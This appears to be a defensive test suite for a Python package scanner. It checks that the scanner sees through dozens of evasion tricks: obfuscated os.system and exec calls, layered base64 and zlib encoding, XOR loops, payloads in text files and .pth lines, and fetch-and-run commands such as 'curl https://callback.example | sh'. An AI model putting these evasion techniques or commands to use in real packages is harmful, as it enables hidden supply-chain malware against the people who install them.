"""Evasions known from other scanners and from malware: none may hide the call behind it.

All payloads are harmless look-alikes. Each test names the trick.
"""

from __future__ import annotations

import base64
import codecs
import marshal
import zlib

import pytest

from safe_pip.distribution import DistributionKind
from safe_pip.evidence import Surface
from tests.sources import code_evidence, features, places

COMMAND = "import os; os.system('echo look-alike')"


def _nested(depth: int) -> str:
    code = "import os\nos.system('curl https://callback.example | sh')\n"
    for _ in range(depth):
        data = base64.b64encode(zlib.compress(code.encode())).decode()
        code = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{data}')))\n"
    return code


SPAWN_TRICKS = {
    "renamed import": (2, "from os import system as s\ns('echo')\n"),
    "renamed module": (2, "import os as operating\noperating.system('echo')\n"),
    "star import": (2, "from os import *\nsystem('echo')\n"),
    "assigned alias": (3, "import os\nrun = os.system\nrun('echo')\n"),
    "chain of aliases": (4, "import os\na = os\nb = a.system\nb('echo')\n"),
    "getattr with a name put together": (2, "import os\ngetattr(os, 'sys' + 'tem')('echo')\n"),
    "getattr with reversed text": (2, "import os\ngetattr(os, 'metsys'[::-1])('echo')\n"),
    "getattr with chr": (
        2,
        "import os\ngetattr(os, ''.join(chr(n) for n in [115, 121, 115, 116, 101, 109]))('echo')\n",
    ),
    "getattr with map": (
        2,
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('echo')\n",
    ),
    "getattr with hex": (2, "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('e')\n"),
    "getattr with rot13": (
        2,
        f"import os, codecs\ngetattr(os, codecs.decode('{codecs.encode('system', 'rot13')}',"
        " 'rot13'))('echo')\n",
    ),
    "getattr with format": (2, "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('echo')\n"),
    "getattr with percent": (2, "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('echo')\n"),
    "getattr with an f-string": (3, "import os\nx = 'tem'\ngetattr(os, f'sys{x}')('echo')\n"),
    "escapes in the name": (2, "import os\ngetattr(os, '\\x73ystem')('echo')\n"),
    "arithmetic in the name": (
        2,
        "import os\ngetattr(os, chr(0x70 + 3) + chr(11 * 11) + 'stem')('echo')\n",
    ),
    "__import__": (1, "__import__('os').system('echo')\n"),
    "__import__ of a name put together": (1, "__import__('o' + 's').system('echo')\n"),
    "import_module": (2, "import importlib\nimportlib.import_module('os').system('echo')\n"),
    "import_module of subprocess": (
        2,
        "from importlib import import_module as i\ni('sub' + 'process').Popen(['echo'])\n",
    ),
    "sys.modules": (2, "import sys\nsys.modules['os'].system('echo')\n"),
    "module namespace": (2, "import os\nos.__dict__['system']('echo')\n"),
    "vars of a module": (2, "import os\nvars(os)['sys' + 'tem']('echo')\n"),
    "globals": (2, "import os\nglobals()['os'].system('echo')\n"),
    "eval of a literal": (1, "eval(\"__import__('os').system('echo')\")\n"),
    "exec of a literal": (1, f"exec({COMMAND!r})\n"),
    "exec found in builtins": (1, f"getattr(__builtins__, 'ex' + 'ec')({COMMAND!r})\n"),
    "exec found in globals": (1, f"globals()['__builtins__'].exec({COMMAND!r})\n"),
    "exec assigned": (2, f"x = exec\nx({COMMAND!r})\n"),
    "exec of compiled text": (1, f"exec(compile({COMMAND!r}, 'x', 'exec'))\n"),
    "exec by map": (1, f"list(map(exec, [{COMMAND!r}]))\n"),
    "exec in a lambda": (1, f"(lambda code: exec(code))({COMMAND!r})\n"),
    "exec in a default argument": (
        2,
        f"def run(code={COMMAND!r}):\n    exec(code)\nrun()\n",
    ),
    "code in a docstring": (2, f'"""{COMMAND}"""\nexec(__doc__)\n'),
    "names found through object": (
        1,
        "[c for c in ().__class__.__base__.__subclasses__()][0]"
        ".__init__.__globals__['__builtins__']['__import__']('os').system('echo')\n",
    ),
    "letters of a builtin's own name": (
        2,
        "import os\ngetattr(os, str(sum)[19] + 'y' + str(sum)[19] + 'tem')('echo')\n",
    ),
    "full-width identifiers": (2, "import os\nｏｓ.ｓｙｓｔｅｍ('echo')\n"),
    "a walrus": (2, "import os\n(run := os.system)('echo')\n"),
    "a dictionary of functions": (3, "import os\nd = {'r': os.system}\nd['r']('echo')\n"),
    "a class attribute": (4, "import os\nclass A:\n    run = os.system\nA.run('echo')\n"),
    "an instance attribute": (
        5,
        "import os\nclass A:\n    def __init__(self):\n        self.run = os.system\n"
        "A().run('echo')\n".replace("A().run('echo')", "a = A(); a.run('echo')"),
    ),
    "a decorator": (3, "import os\ndef now(f):\n    os.system('echo')\n    return f\n"
                       "@now\ndef g(): pass\n"),
    "a thread": (4, "import os, threading\n\ndef f():\n    os.system('echo')\n"
                    "threading.Thread(target=f).start()\n"),
    "at exit": (3, "import atexit, os\ndef f():\n    os.system('echo')\natexit.register(f)\n"),
    "a metaclass": (
        4,
        "import os\nclass M(type):\n    def __init__(cls, *a):\n        os.system('echo')\n"
        "class A(metaclass=M): pass\n",
    ),
    "a class body": (3, "import os\nclass A:\n    os.system('echo')\n"),
    "behind a comment with triple quotes": (3, "# \"\"\"\nimport os\nos.system('echo')\n# \"\"\"\n"),
    "far to the right": (2, "import os\nx = 1;" + " " * 300 + "os.system('echo')\n"),
    "after a form feed": (2, "import os\n\fos.system('echo')\n"),
    "in an else": (5, "import os\nif os.name == 'x':\n    pass\nelse:\n    os.system('echo')\n"),
    "in an except": (5, "import os\ntry:\n    raise OSError\nexcept OSError:\n    os.system('e')\n"),
    "in a comprehension": (2, "import os\n[os.system(c) for c in ['echo']]\n"),
    "in an f-string": (2, "import os\nf\"{os.system('echo')}\"\n"),
    "in an assertion": (2, "import os\nassert not os.system('echo')\n"),
    "in a python -c of its own": (
        2,
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'pass'])\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("line", "source"), SPAWN_TRICKS.values(), ids=SPAWN_TRICKS)
def test_process_is_seen_through_trick(line: int, source: str) -> None:
    evidence = code_evidence({"pkg/__init__.py": source.encode()})
    assert ("pkg/__init__.py", line) in places(evidence, "proc_spawn_unasked")


@pytest.mark.parametrize("path", ["pkg/module.py", "module.py"])
@pytest.mark.parametrize(("line", "source"), SPAWN_TRICKS.values(), ids=SPAWN_TRICKS)
def test_trick_also_earns_a_plain_module_its_tree(line: int, source: str, path: str) -> None:
    evidence = code_evidence({path: source.encode()}, kind=DistributionKind.WHEEL)
    assert (path, line) in places(evidence, "proc_spawn_unasked")


@pytest.mark.parametrize("depth", [1, 2, 5, 12])
def test_layers_of_encoding_are_peeled(depth: int) -> None:
    evidence = code_evidence({"setup.py": _nested(depth)})
    assert ("setup.py", 2) in places(evidence, "chain_net_write_exec_unasked")
    assert ("setup.py", 2) in places(evidence, "chain_decode_exec_unasked")


def test_loop_that_decodes_is_unrolled() -> None:
    """A byte-wise XOR, as droppers of 2024 had it."""
    hidden = [ord(letter) ^ 7 for letter in COMMAND]
    source = f"""
    data = {hidden}
    text = ""
    for number in data:
        text += chr(number ^ 7)
    exec(text)
    """
    evidence = code_evidence({"setup.py": source})
    assert ("setup.py", 5) in places(evidence, "proc_spawn_unasked")
    assert ("setup.py", 5) in places(evidence, "chain_decode_exec_unasked")


def test_marshalled_code_is_a_decoded_execution() -> None:
    data = marshal.dumps(compile("pass", "x", "exec"))
    evidence = code_evidence({"setup.py": f"import marshal\nexec(marshal.loads({data!r}))\n"})
    assert ("setup.py", 2) in places(evidence, "chain_decode_exec_unasked")


def test_payload_in_a_text_file_is_followed() -> None:
    """https://github.com/DataDog/guarddog scores this 0.0: the code is in no .py file."""
    evidence = code_evidence(
        {
            "setup.py": "exec(open('notes.txt').read())\n",
            "notes.txt": "import os\n\nos.system('curl https://callback.example | sh')\n",
        }
    )
    assert ("notes.txt", 3) in places(evidence, "proc_spawn_unasked")
    assert ("notes.txt", 3) in places(evidence, "chain_net_write_exec_unasked")
    assert ("setup.py", 1) in places(evidence, "chain_file_exec_unasked")


@pytest.mark.parametrize(
    "reading",
    [
        "exec(open(os.path.join(os.path.dirname(__file__), 'data', 'notes.txt')).read())",
        "exec(pathlib.Path(__file__).parent.joinpath('data/notes.txt').read_text())",
        "exec((pathlib.Path(__file__).parent / 'data' / 'notes.txt').read_text())",
        "with open('data/notes.txt') as file: exec(compile(file.read(), 'n', 'exec'))",
        "runpy.run_path('data/notes.txt')",
        "s = importlib.util.spec_from_file_location('n', 'data/notes.txt'); "
        "m = importlib.util.module_from_spec(s); s.loader.exec_module(m)",
        "importlib.machinery.SourceFileLoader('n', 'data/notes.txt').load_module()",
    ],
)
def test_payload_file_is_found_however_it_is_opened(reading: str) -> None:
    source = f"import os, pathlib, runpy, importlib.util, importlib.machinery\n{reading}\n"
    evidence = code_evidence(
        {"pkg/__init__.py": source, "pkg/data/notes.txt": "import os\nos.system('echo')\n"}
    )
    assert ("pkg/data/notes.txt", 2) in places(evidence, "proc_spawn_unasked")


def test_version_file_that_is_executed_is_harmless() -> None:
    """The commonest idiom of setup.py files must not look like the payload above."""
    evidence = code_evidence(
        {
            "setup.py": """
            from setuptools import setup
            about = {}
            with open("demo/version.py") as file:
                exec(file.read(), about)
            setup(name="demo", version=about["__version__"])
            """,
            "demo/version.py": "__version__ = '1.0'\n",
        }
    )
    assert "dyn_exec_unasked" not in features(evidence)
    assert "chain_file_exec" not in features(evidence)


def test_payload_in_a_shipped_script_is_read() -> None:
    evidence = code_evidence(
        {
            "setup.py": "import subprocess\nsubprocess.call('./scripts/i.sh', shell=True)\n",
            "scripts/i.sh": "#!/bin/sh\ncurl -s https://callback.example/x | sh\n",
        }
    )
    assert ("setup.py", 2) in places(evidence, "chain_net_write_exec_unasked")
    assert ("setup.py", 2) in places(evidence, "own_file_spawn")


def test_code_written_to_a_file_is_read() -> None:
    """The W4SP family: a temporary file is written and run by another interpreter."""
    evidence = code_evidence(
        {
            "setup.py": """
            from tempfile import NamedTemporaryFile as _file
            from sys import executable as _python
            from os import system as _system
            _temporary = _file(delete=False)
            _temporary.write(b"from urllib.request import urlopen as u;exec(u('https://x').read())")
            _temporary.close()
            _system(f"start {_python} {_temporary.name}")
            """
        }
    )
    assert ("setup.py", 5) in places(evidence, "chain_net_exec_unasked")
    assert ("setup.py", 7) in places(evidence, "proc_spawn_unasked")


def test_code_written_line_by_line_is_read() -> None:
    evidence = code_evidence(
        {
            "setup.py": """
            with open("/tmp/stage.py", "w") as f:
                f.write("import os, requests\\n")
                f.write("exec(requests.get('https://callback.example').text)\\n")
            """
        }
    )
    assert ("setup.py", 2) in places(evidence, "chain_net_exec_unasked")


def test_payload_in_another_module_is_followed() -> None:
    evidence = code_evidence(
        {
            "pkg/__init__.py": "from .tests.helper import start\nstart()\n",
            "pkg/tests/__init__.py": "",
            "pkg/tests/helper.py": "import os\ndef start():\n    os.system('curl https://x|sh')\n",
        },
        kind=DistributionKind.WHEEL,
    )
    assert ("pkg/tests/helper.py", 3) in places(evidence, "chain_net_write_exec_unasked")
    assert ("pkg/tests/helper.py", 3) in places(evidence, "chain_cross_file")


def test_import_makes_a_test_folder_run() -> None:
    evidence = code_evidence(
        {
            "pkg/__init__.py": "import pkg.tests.helper\n",
            "pkg/tests/helper.py": "import os\nos.system('echo')\n",
        },
        kind=DistributionKind.WHEEL,
    )
    assert ("pkg/tests/helper.py", 2) in places(evidence, "proc_spawn_unasked")


def test_hidden_lookup_is_placed_where_it_is_written() -> None:
    evidence = code_evidence(
        {
            "pkg/__init__.py": "from .inner import find\nfind()\n",
            "pkg/inner.py": "x = 1\ny = 2\ndef find():\n    return getattr(__builtins__, 'ex' + 'ec')\n",
        },
        kind=DistributionKind.WHEEL,
    )
    assert places(evidence, "hidden_lookup") == {("pkg/inner.py", 4)}


def test_burnt_fuel_hides_nothing() -> None:
    """Ten thousand calls before the payload must not make it unreached."""
    source = (
        "import os\n"
        "def waste(n):\n    return [n, n + 1, n * 2, str(n)]\n"
        "def start():\n    os.system('echo')\n"
        + "".join(f"waste({n})\n" for n in range(40_000))
        + "start()\n"
    )
    evidence = code_evidence({"pkg/__init__.py": source})
    assert ("pkg/__init__.py", 5) in places(evidence, "proc_spawn_unasked")


def test_flood_of_other_events_hides_nothing() -> None:
    source = (
        "import os, socket\n"
        + "".join(f"socket.gethostname(); open('f{n}', 'w')\n" for n in range(6_000))
        + "os.system('echo')\n"
    )
    evidence = code_evidence({"pkg/__init__.py": source})
    assert ("pkg/__init__.py", 6_002) in places(evidence, "proc_spawn_unasked")


def test_broken_line_does_not_hide_the_rest() -> None:
    evidence = code_evidence(
        {"setup.py": "import os\nthis is surely no python\nos.system('curl https://x | sh')\n"}
    )
    assert ("setup.py", 3) in places(evidence, "chain_net_write_exec_unasked")
    assert "unparsable_python" in features(evidence)


def test_source_without_a_tree_is_searched_by_words() -> None:
    deep = "(" * 5_000 + ")" * 5_000
    evidence = code_evidence({"setup.py": f"import os\nx = {deep}\nos.system('echo')\n"})
    assert "unparsable_python" in features(evidence)
    assert ("setup.py", 3) in places(evidence, "proc_spawn_unasked")


def test_python_2_is_read() -> None:
    evidence = code_evidence(
        {
            "setup.py": """
            import urllib2
            print "installing"
            try:
                exec urllib2.urlopen("https://callback.example").read() in {}
            except Exception, error:
                print error
            """
        }
    )
    assert ("setup.py", 4) in places(evidence, "chain_net_exec_unasked")


def test_declared_encoding_is_honoured() -> None:
    """In UTF-7 the call is not spelled out in the bytes."""
    source = "# -*- coding: utf-7 -*-\nimport os\nos.system+ACg-'echo')\n"
    evidence = code_evidence({"setup.py": source.encode()})
    assert ("setup.py", 3) in places(evidence, "proc_spawn_unasked")


def test_startup_line_runs_at_every_start() -> None:
    evidence = code_evidence(
        {"demo.pth": "import sys\n/some/path\nimport os; exec(os.environ['X'])\n"},
        kind=DistributionKind.WHEEL,
    )
    found = [item for item in evidence if item.feature == "dyn_exec_unasked"]
    assert [(item.location.line, item.surface) for item in found] == [(3, Surface.STARTUP)]
